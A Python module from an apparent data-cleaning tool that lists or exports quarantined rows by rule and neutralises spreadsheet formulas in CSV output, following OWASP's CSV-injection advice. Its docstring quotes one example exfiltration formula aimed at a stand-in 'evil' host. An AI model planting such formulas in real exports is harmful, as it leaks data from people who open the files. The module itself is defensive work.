"""Every quarantined row within reach: list or export a domain's quarantine, by rule.

The stewards' page shows a few examples per rule; ``assay quarantine`` gives the rest, from the
quarantine file the clean stage wrote (identifiers pseudonymised, broken lines' identifier fields
and personal data masked; the restricted quarantine is never read here). Columns come in the
order a steward reads them: where the row came from, the rule and reason, the domain's columns,
then ``_raw`` for lines that could not be parsed.

**CSV exports neutralise formulas**, as OWASP's "CSV Injection" page recommends: a spreadsheet
opening the file runs any cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula, and quarantined values are exactly the untrusted input an attacker controls
(``=HYPERLINK("http://evil/?"&A1, "click")`` in a description). Such a cell gets a leading single
quote, which spreadsheets show as text and do not evaluate. Numbers are prefixed too (``-5``
becomes ``'-5``): the quarantine holds every value as the text that failed, and a rule that tells
numbers from formulas is what attackers probe. Parquet exports keep the values as they are.
"""

from __future__ import annotations

import logging
import shlex
from pathlib import Path

import polars as pl

from assay.columns import PROVENANCE, RAW
from assay.errors import AssayError
from assay.io import atomic_path, read_parquet, write_parquet

log = logging.getLogger("assay.quarantine")

FORMULA_START = r"^[=+\-@\t\r]"
SCREEN_ROWS = 20  # rows printed without --out or --limit
SUFFIXES = (".csv", ".parquet")


def read_quarantine(path: Path, domain: str) -> pl.DataFrame:
    """The quarantine file, or a one-line error saying which stage makes it."""
    if not path.is_file():
        raise AssayError(f"{path}: quarantine not found; run `assay clean --domain {domain}` (or `dvc repro clean@{domain}`) first")
    return read_parquet(path)


def select_rows(quarantine: pl.DataFrame, rule: str | None = None, limit: int | None = None) -> pl.DataFrame:
    """The rows of ``rule`` (all rules when None), at most ``limit`` of them, in file order, columns in reading order.

    An unknown rule is an error naming the rules the quarantine holds, with their counts.
    """
    if rule is not None:
        counts = dict(quarantine.group_by("_rule").len().sort("_rule").iter_rows())
        if rule not in counts:
            known = ", ".join(f"{name} ({count:,})" for name, count in counts.items()) or "none: the quarantine is empty"
            raise AssayError(f"no row was quarantined by rule {rule!r}; rules in this quarantine: {known}")
        quarantine = quarantine.filter(pl.col("_rule") == rule)
    first = [name for name in (*PROVENANCE, "_rule", "_reason") if name in quarantine.columns]
    last = [RAW] if RAW in quarantine.columns else []
    ordered = quarantine.select(*first, *[name for name in quarantine.columns if name not in (*first, *last)], *last)
    return ordered if limit is None else ordered.head(limit)


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """Text cells that a spreadsheet would run as a formula, prefixed with a single quote (OWASP)."""
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    risky = [pl.when(pl.col(name).str.contains(FORMULA_START)).then(pl.lit("'") + pl.col(name)).otherwise(pl.col(name)).alias(name) for name in text]
    return frame.with_columns(risky)


def write_export(frame: pl.DataFrame, out: Path) -> None:
    """``frame`` to ``out``, atomically: CSV with formulas neutralised, or Parquet as it is."""
    suffix = out.suffix.lower()
    if suffix not in SUFFIXES:
        raise AssayError(f"{out}: unknown export format {suffix or '(none)'!r}; use a .csv or .parquet file")
    if suffix == ".parquet":
        write_parquet(frame, out)
        return
    with atomic_path(out) as staging:
        neutralise_formulas(frame).write_csv(staging)


def export_command(domain: str, rule: str | None = None) -> str:
    """The exact ``assay quarantine`` command that exports every row of ``rule`` (the page shows it per rule)."""
    stem = "".join(char if char.isalnum() or char in "-_" else "_" for char in f"{domain}-{rule or 'all'}")
    words = ["assay", "quarantine", "--domain", domain, *(["--rule", rule] if rule else []), "--out", f"{stem}.csv"]
    return shlex.join(words)


def run_quarantine(domain: str, path: Path, rule: str | None, limit: int | None, out: Path | None) -> tuple[pl.DataFrame, int]:
    """Entry point for ``assay quarantine``: (the rows to show or written to ``out``, how many the rule has in all)."""
    quarantine = read_quarantine(path, domain)
    everything = select_rows(quarantine, rule)
    rows = everything if limit is None and out is not None else everything.head(limit or SCREEN_ROWS)
    if out is not None:
        write_export(rows, out)
        log.info("quarantine %s: wrote %s row(s)%s to %s", domain, f"{rows.height:,}", f" of rule {rule}" if rule else "", out)
    return rows, everything.height


def screen_text(rows: pl.DataFrame) -> str:
    """The rows as CSV for the screen (formulas neutralised too: the text may be redirected to a file)."""
    return neutralise_formulas(rows).write_csv()
